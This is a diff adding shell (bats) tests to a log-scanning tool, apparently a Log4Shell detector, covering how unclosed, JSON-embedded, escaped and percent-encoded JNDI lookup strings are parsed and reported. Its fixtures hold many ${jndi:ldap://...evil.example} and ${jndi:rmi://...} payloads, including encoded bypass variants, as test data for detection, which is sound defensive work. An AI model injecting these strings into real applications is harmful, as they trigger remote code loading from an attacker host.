@@ -202,3 +202,55 @@ X
     run k scan --json --log-path "$L/host/data" "$L/host"
     [ "$(echo "$output" | count_alerts)" -eq 2 ]
 }
+
+# ---- accurate verdicts (issue 9) ---------------------------------------
+
+@test "an unclosed \${jndi: is never joined with the next record" {
+    printf '%s\n' \
+      '2021-12-12 10:00:00 INFO user=${jndi:ldap://glue.evil.example/a' \
+      '2021-12-12 10:00:01 INFO done } ok' \
+      '10.0.0.1 - - [12/Dec/2021:10:00:02 +0000] "GET /?q=${jndi:ldap://two.evil.example/a HTTP/1.1" 200 5' \
+      '10.0.0.2 - - [12/Dec/2021:10:00:03 +0000] "GET /} HTTP/1.1" 200 5' \
+      > "$L/unclosed.log"
+    run k logs --json "$L/unclosed.log"
+    [ "$(attacks "$L/unclosed.log")" = "" ]
+    echo "$output" | jq_alerts '.kensa.verdict == "suspicious"'
+    [ "$(echo "$output" | count_alerts)" -eq 2 ]
+    # a record that really goes on (indented, or closing brackets) still joins
+    printf '%s\n' '2021-12-12 10:00:00 INFO user=${jndi:ldap://cont.evil.example/a' '}' \
+        > "$L/cont.log"
+    [ "$(attacks "$L/cont.log")" = "1 jndi:ldap://cont.evil.example/a" ]
+}
+
+@test "a JSON record's own brace never closes a payload in one of its strings" {
+    printf '%s\n' \
+      '{"@timestamp":"2021-12-12T10:00:00Z","msg":"${jndi:ldap://x.evil.example/a"}' \
+      '{"a":"${jndi:ldap://p.evil.example/a","b":"}"}' \
+      '{"msg":"${jndi:ldap://q.evil.example/a\" more","x":"}"}' \
+      > "$L/json-open.log"
+    run k logs --json "$L/json-open.log"
+    [ "$(attacks "$L/json-open.log")" = "" ]
+    echo "$output" | jq_alerts '.kensa.verdict == "suspicious"'
+    # a payload whole inside a value is an attack, JSON escapes undone
+    printf '%s\n' \
+      '{"@timestamp":"2021-12-12T10:00:00Z","client_ip":"203.0.113.9","msg":"${jndi:ldap://j.evil.example/a}"}' \
+      '{"msg":"\u0024{jndi:ldap://u.evil.example/a}","n":1,"ok":true,"z":null}' \
+      '  {"h":{"k":["${jndi:rmi://n.evil.example/a}"]}}' \
+      > "$L/json.log"
+    [ "$(attacks "$L/json.log")" = "1 jndi:ldap://j.evil.example/a
+2 jndi:ldap://u.evil.example/a
+3 jndi:rmi://n.evil.example/a" ]
+    run k logs --json "$L/json.log"
+    echo "$output" | jq_any '.kensa.line == 1 and .source.ip == "203.0.113.9"
+        and .kensa.log_time == "2021-12-12T10:00:00Z"'
+}
+
+@test "a callback host from a query string is reported decoded" {
+    printf '%s\n' \
+      '203.0.113.7 - - [11/Dec/2021:10:00:01 +0000] "GET /?q=${jndi:ldap://127.0.0.1%23evil.example:1389/a} HTTP/1.1" 200 5' \
+      > "$L/pct.log"
+    run k logs --json "$L/pct.log"
+    [ "$status" -eq 1 ]
+    echo "$output" | jq_alerts '.url.domain == "127.0.0.1#evil.example"
+        and .url.port == 1389'
+}
